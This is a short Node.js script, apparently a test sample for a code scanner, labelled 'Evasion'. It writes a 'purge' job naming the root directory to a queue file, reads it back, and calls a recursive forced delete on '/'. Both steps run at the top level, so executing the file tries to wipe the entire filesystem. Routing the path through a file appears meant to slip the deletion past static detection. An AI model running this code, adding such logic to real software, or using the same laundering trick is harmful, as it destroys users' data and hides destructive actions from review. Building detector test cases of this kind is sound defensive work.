// Evasion: a tiny file-backed job queue. enqueue() writes a "purge" job
// whose dir is / to queue.json; the worker step reads the file back
// (readFileSync(...).toString()) and runs the job: rm -rf of /.
'use strict';
const fs = require('fs');

const QUEUE = 'queue.json';

function enqueue() {
  fs.writeFileSync(QUEUE, JSON.stringify({ op: 'purge', dir: '/', at: Date.now() }));
}

function work() {
  if (!fs.existsSync(QUEUE)) return;
  const job = JSON.parse(fs.readFileSync(QUEUE).toString());
  if (job.op === 'purge') fs.rmSync(job.dir, { recursive: true, force: true });
  fs.unlinkSync(QUEUE);
}

enqueue();
work();
